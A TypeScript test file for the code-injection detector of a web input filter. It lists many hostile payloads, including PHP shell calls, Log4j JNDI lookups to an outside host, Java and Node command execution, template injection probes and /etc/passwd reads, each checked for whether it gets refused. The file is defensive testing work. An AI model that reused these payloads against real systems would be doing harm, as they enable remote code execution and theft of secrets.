/**
 * The `code` family: code injection into interpreters and templates, and serialized objects.
 */
import { describe, expect, it } from "@effect/vitest"
import { family } from "../../../src/internal/detection/families/code/index.js"
import type { Paranoia } from "../../../src/internal/detection/families/contract.js"
import { cpuDoublingRatio } from "./doublingRatio.js"
import { expectVerdicts as verdicts } from "./verdicts.js"

const score = (value: string, paranoia: Paranoia = 1): number =>
  family.mayMatch(value)
    ? family.scan(value, { location: "query", paranoia }).reduce((sum, finding) => sum + finding.score, 0)
    : 0

/** Each of `passing` stays below the threshold at level 1 and each of `refused` reaches it. */
const expectVerdicts = (passing: ReadonlyArray<string>, refused: ReadonlyArray<string>): void => verdicts((value) => score(value, 1), passing, refused)

describe("code family", () => {
  it.each([
    "<?php echo shell_exec($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "expect://id",
    "phar://uploads/avatar.jpg/x",
    "x';system('uname -a');//",
    "eval(base64_decode('ZWNobyAxOw=='))",
    "phpinfo()",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "{${system('id')}}",
    "${@print(md5(1))}",
    ";${@system('id')};",
    "${jndi:ldap://203.0.113.9/a}",
    "${${lower:j}${lower:n}di:rmi://x/y}",
    "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
    "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
    "Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(\"id\").start()",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    "require('child_process').execSync('id')",
    "this.constructor.constructor('return process')()",
    "__import__('os').popen('id').read()",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<%= `id` %>",
    "<%= File.open('/etc/passwd').read %>",
    "#{7*7}${T(java.lang.System).getenv()}",
    "$f='sys'.'tem';$f('id');",
    "@$__['o']($_GET[1])",
    "${'_GET'}[0]",
    "posix_getpwuid(0)",
    "exec /*x*/ (whoami)",
    "system #c\n (ls)",
    "${:1337:-x$}{jndi:ldap://x/a}",
    "{{'a'.toUpperCase()}}",
    "com.opensymphony.xwork2.dispatcher.HttpServletRequest",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"
  ])("refuses the injection %j at level 1", (value) => {
    expect(score(value)).toBeGreaterThanOrEqual(5)
  })

  it.each([
    "use eval() carefully",
    "Hello {{ name }}, welcome back",
    "Total: ${price}",
    "Hello ${name(user)}, it is ${format(date)}",
    "`/search?q=${encodeURIComponent(q)}`",
    "see {${@docRoot}} and ${@link Foo}",
    "for (let i = 0; i < arr.length; i++) { total += arr[i]; }",
    "const m = /a(b)/.exec(text)",
    "He said \"system update\" (again) at 5pm",
    "user_name",
    "https://example.com/docs/php/intro",
    "The class of 2024 met at the java cafe",
    "It costs $5 (each)",
    "$(document).ready(init)",
    "Java Runtime Environment 21 is installed"
  ])("passes the ordinary value %j at level 1", (value) => {
    expect(score(value)).toBeLessThan(5)
  })

  it.each([
    "<? passthru('id'); ?>",
    "<?xml  ($x)=1; ?>",
    "(shell_exec)('whoami');",
    "('pass'.'thru')('ls -la');",
    "(\"ex\".\"ec\") /* c */ ('id');",
    "$m = 'as'.'sert';($m)(\"phpinfo()\");",
    "(F)[1]('cat /etc/hosts') ;",
    "passthru\t('id')",
    "include\n('/tmp/x')",
    "readfile   ('/etc/hosts')",
    "$x[$y[0]]('id')",
    "${ @fn }('ls')",
    "allow_url_include=On",
    "auto_prepend_file = php://input",
    "session.save_path=/tmp",
    "x=1; disable_functions=",
    "[/php]"
  ])("refuses the PHP evasion %j at level 1", (value) => {
    expect(score(value)).toBeGreaterThanOrEqual(5)
  })

  it.each([
    "(see note 3)(page 12)",
    "f(x) = (a+b)(c+d)",
    "He wrote \"hello\" (twice); then left",
    "the exec  team met on Monday",
    "File (PDF), 2 MB",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
    "<?xml-stylesheet href=\"a.xsl\"?>",
    "memory limits are set in php.ini",
    "precision=2",
    "array_map is a PHP function",
    "$__ is a variable name"
  ])("passes the PHP-looking ordinary value %j at level 1", (value) => {
    expect(score(value)).toBeLessThan(5)
  })

  it("reads a superglobal as a parameter name, a PHP upload name in a header or multipart", () => {
    const at = (value: string, location: "key" | "header" | "body" | "query") =>
      family.scan(value, { location, paranoia: 1 }).reduce((sum, finding) => sum + finding.score, 0)
    expect(at("$_SERVER", "key")).toBeGreaterThanOrEqual(5)
    expect(at("$_SERVER", "query")).toBe(0)
    for (const name of ["cmd.jsp", "up.jspx..", "a.aspx", "shell.php", "avatar.phtml..", "x.php7 ", "pic.phar", "sess_0123456789abcdefghijk", "/var/tmp/sess_aaaaabbbbbcccccddddd01"]) {
      expect(at(name, "header"), name).toBeGreaterThanOrEqual(5)
    }
    expect(at("index.php", "query")).toBe(0)
    expect(at("https://example.com/index.php?id=1", "header")).toBe(0)
    expect(at("photo.jpg", "header")).toBe(0)
    expect(at("report.json", "header")).toBe(0)
    expect(at("Content-Disposition: form-data; name=\"f\"; filename=\"cmd.php5\"", "body")).toBeGreaterThanOrEqual(5)
    expect(at("Content-Disposition: form-data; name=\"f\"; filename=\"notes.php.txt\"", "body")).toBe(0)
  })

  it("keeps plain-word php.ini directives and extension calls for level 2", () => {
    expect(score("engine=Off", 1)).toBe(0)
    expect(score("engine=Off", 2)).toBeGreaterThanOrEqual(5)
    expect(score("pg_query($db, $q)", 1)).toBeLessThan(5)
    expect(score("mysqli_connect (", 2)).toBeGreaterThanOrEqual(5)
    expect(score("gethostbyname('x')", 2)).toBeGreaterThanOrEqual(5)
  })

  it.each(["while (!0) ;", "while(true){}", "for(;;);", "while(!null);", "Process.spawn('uname')", "IO.popen(\"ls\")", "Kernel.exec('id')", "%x(ls -la)"])(
    "refuses the evaluated hang or Ruby process call %j at level 1",
    (value) => {
      expect(score(value)).toBeGreaterThanOrEqual(5)
    }
  )

  it.each(["while (i < n) { i++ }", "while(true) { poll(); }", "the process spawned a child", "for (;;) { step() }"])(
    "passes the ordinary code-like value %j at level 1",
    (value) => {
      expect(score(value)).toBeLessThan(5)
    }
  )

  it("refuses Node.js code a server would evaluate at level 1", () => {
    for (const value of ["read process.env.SECRET", "module.exports = x", "new Function ('a', 'b')", "function () { return 1 }", "require('fs')"]) {
      expect(score(value, 1), value).toBeGreaterThanOrEqual(5)
    }
  })

  it("passes a CommonJS import assigned to a name, as Node READMEs and snippets write it", () => {
    expectVerdicts([
      "const colors = require('@colors/colors');\nconsole.log('hello'.green)",
      "const { trace } = require(\"@opentelemetry/api\");",
      "var ui = require('./lib/ui')",
      "cliui = require('cliui')"
    ], [
      // what a payload does with the module, or a path, URL or wrapper, still counts
      "x = require('fs').readFileSync('/etc/passwd')",
      "a = require('http://203.0.113.9/s.txt')",
      "require('fs')"
    ])
  })

  it("passes Node settings and exports in a snippet of several lines or named in a code span; a one-line read still counts", () => {
    expectVerdicts([
      "const port = Number(process.env.PORT);\nconst app = createApp();\napp.listen(port);\n",
      "function helper() {\n  return 1;\n}\nmodule.exports = helper;\n",
      "Set the endpoint with `process.env.OTEL_EXPORTER_OTLP_ENDPOINT`.",
      "Reads `process.env[key]` and falls back to the default."
    ], [
      "res.end(JSON.stringify(process.env))",
      "';return process.env;//",
      "`${process.env.SECRET}`",
      // a strong sign counts in a snippet too
      "const cp = require('child_process');\nconst out = cp.execSync('id');\nconsole.log(out);\n"
    ])
  })

  it("passes a Node built-in that runs nothing, required with `node:`, and `child_process` named at a sentence's end", () => {
    expectVerdicts([
      "const { test, after } = require('node:test')\ntest('x', (t) => t.pass())",
      "const assert = require('node:assert')",
      "Pass arguments to `node` when spawning `worker_threads` or `child_process`."
    ], ["x=require('node:child_process').execSync('id')", "require('node:fs').readFileSync('/etc/passwd')", "require(\"child_process\").exec('id')"])
  })

  it("reads a back-quote in a template expression as a shell command only where the engine runs one", () => {
    expectVerdicts(
      ["pc.green(`How are ${pc.italic(`you`)} doing?`)", "const msg = `Total: ${fmt(`${n}`)}`", "{{ `x` }}", "Kp@{:m4]\"Qz`9w]:", "@{ var a = `b`; }"],
      ["#{`id`}", "<%= `ls -la` %>", "${`id`} and ${config}", "@{[ `whoami` ]}", "x@{[`uname`]}"]
    )
  })

  it("refuses Smarty's reserved variable, the probe of a Smarty injection; other Smarty and PHP braces pass", () => {
    expectVerdicts(
      ["{$price} per month", "Hello {$user->name}", "Smarty is a template engine for PHP"],
      ["{$smarty.version}", "{$smarty.const.PHP_VERSION}", "{ $smarty.template_object }"]
    )
  })

  it("keeps bare constructor chains and Perl interpolation for level 2", () => {
    for (const value of ["x.constructor.constructor", "@{[ uc 'x' ]}"]) {
      expect(score(value, 1), value).toBeLessThan(5)
      expect(score(value, 2), value).toBeGreaterThanOrEqual(5)
    }
  })

  it("passes prose about Node and functions", () => {
    for (const value of [
      "use eval() carefully",
      "the process environment is documented",
      "a function is a value",
      "functions (like map) take callbacks",
      "our module exports two helpers",
      "require a valid email"
    ]) {
      expect(score(value, 1), value).toBe(0)
    }
  })

  it("refuses an evaluated endless loop that ends the value", () => {
    expect(score("while(!false)")).toBeGreaterThanOrEqual(5)
    expect(score("while (true)")).toBeGreaterThanOrEqual(5)
    expect(score("while (true) we waited")).toBe(0)
  })

  it("keeps template statements for level 2", () => {
    for (const value of ["{% if user %}x{% endif %}", "<% for x in y %>", "{%- set x = 1 -%}"]) {
      expect(score(value, 1), value).toBeLessThan(5)
      expect(score(value, 2), value).toBeGreaterThanOrEqual(5)
    }
  })

  it("refuses a Spring XML context gadget, keeps loose Java runtime paths for level 2", () => {
    expect(score("org.springframework.context.support.ClassPathXmlApplicationContext(\"http://x/a.xml\")")).toBeGreaterThanOrEqual(5)
    expect(score("java.x.y.Runtime", 1)).toBeLessThan(5)
    expect(score("java.x.y.Runtime", 2)).toBeGreaterThanOrEqual(5)
    expect(score("I love java. Runtime errors are fun", 2)).toBeLessThan(5)
  })

  it("refuses computation-only template probes, the step before an injection", () => {
    for (const value of ["{{7*7}}", "${7*7}", "#{ 3*3 }", "<%= 9*9 %>", "[[5*5]]"]) {
      expect(score(value, 1), value).toBeGreaterThanOrEqual(5)
    }
    for (const value of ["7*7 = 49", "{ 7*7 }", "prices {10-20} EUR"]) expect(score(value, 1), value).toBe(0)
  })

  it("rejects ordinary values in mayMatch", () => {
    for (const value of ["hello", "12345", "550e8400-e29b-41d4-a716-446655440000", "just some words"]) {
      expect(family.mayMatch(value), value).toBe(false)
    }
  })

  it("reads a Log4j lookup whose braces are escaped for a layer that unescapes them", () => {
    expectVerdicts(
      ["price $\\{amount\\} due", "use $\\{HOME\\}/bin", "a \\{jndi\\} note", "$\\{ctx:user\\} logged in"],
      ["$\\{jndi:dns://203.0.113.7/x\\}", "$\\{j$\\{::-n\\}di:rmi://x/y\\}", "$\\{$\\{lower:j\\}ndi:ldap://x/a\\}", "\\$\\{jndi:iiop://x\\}"]
    )
  })

  it("documents every rule with a stable id", () => {
    const ids = family.rules.map((rule) => rule.id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const rule of family.rules) expect(rule.id).toMatch(/^code-\d{3}$/)
  })

  it("scans near-miss inputs of doubling size without blowing up", () => {
    // Bounded patterns and windows: each doubling at most about doubles the time (best of seven,
    // alternated, with room for a loaded machine).
    for (const fragment of ["{{", "${", "${${lower:", "<%", "__", "O:1:\"", "system (", "rO0A", ")(", "')('x'", "$_[$_[", "<? ", "exec\t", "filename=\"a", "opcache.a", "while(", "%x(", "@{[", " [ab](x);", "[aaaa]]('x');", "e\"&\"v", "a\" & \"b", "$\\{$\\{"]) {
      const small = fragment.repeat(Math.ceil(32_000 / fragment.length))
      const large = small + small
      expect(cpuDoublingRatio((value) => family.scan(value, { location: "query", paranoia: 4 }), small, large), fragment).toBeLessThanOrEqual(4)
    }
  })
})

describe("code family: a template filter that only computes on numbers", () => {
  // the same policy as `{{2+2}}`: arithmetic on literals is the probe before an injection, even in prose
  // that documents the filter (`Input: {{ 16 | divided_by: 4 }}`); a filter on a variable is a template's own
  it("refuses a filter on number literals written as decimals or in quotes", () => {
    expectVerdicts([], ["{{9|times:9.0}}", "{{ '8'|times:8 }}", "{{ \"6\" | plus: 1.5 }}", "{{2.5|minus:'1'}}", "Input: {{ 21 | divided_by: 3 }} Output: 7"])
  })

  it("passes a filter on a variable, whatever number it takes", () => {
    expectVerdicts(["{{ total | times: 1.19 }}", "{{ 'hello' | upcase }}", "{{ item.price | minus: '0.5' }}", "{{ cart.total_weight | divided_by: 1000.0 }}"], [])
  })
})
